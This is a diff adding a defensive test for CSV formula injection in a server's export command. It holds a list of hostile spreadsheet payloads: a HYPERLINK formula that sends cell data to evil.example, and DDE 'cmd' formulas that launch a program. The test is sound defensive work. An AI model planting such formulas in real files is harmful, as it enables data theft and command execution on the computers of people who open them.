@@ -137,3 +137,38 @@ def test_a_reader_that_stops_early_gets_no_error_line(night: Path) -> None:
     # `opsmon-server export ... | head`: the pipe's reader is gone before the export writes.
     exported = into_a_closed_pipe("server.cli", "export", "--db", str(night), "--config", str(CONFIG_PATH), timeout=60)
     assert exported.stderr == "" and exported.returncode == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "   =1+1",
+]
+
+
+async def notes_with_formulas(tmp_path: Path) -> None:
+    async with running_server(tmp_path) as running:
+        officer = await Peer.open(running, running.tokens["officer"])
+        await officer.command("report", **report(title='=HYPERLINK("http://evil.example")'))
+        for text in FORMULAS:
+            assert (await officer.command("note", incident=1, text=text))["ok"]
+        await officer.close()
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    asyncio.run(notes_with_formulas(tmp_path))
+    assert export(tmp_path / "opsmon.db", "--format", "csv") == 0
+    text = capsys.readouterr().out
+    rows = list(csv.DictReader(io.StringIO(text)))
+    summaries = [r["summary"] for r in rows if r["kind"] == "incident.noted"]
+    # read back: each note is there, word for word, behind one single quote
+    assert summaries == ["'" + f for f in FORMULAS]
+    for row in rows:
+        for cell in row.values():
+            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # every field quoted (OWASP), ordinary text untouched
+    assert text.splitlines()[0].startswith('"seq","time_wita"')
+    assert next(r for r in rows if r["kind"] == "incident.reported")["summary"] == 'high: =HYPERLINK("http://evil.example")'
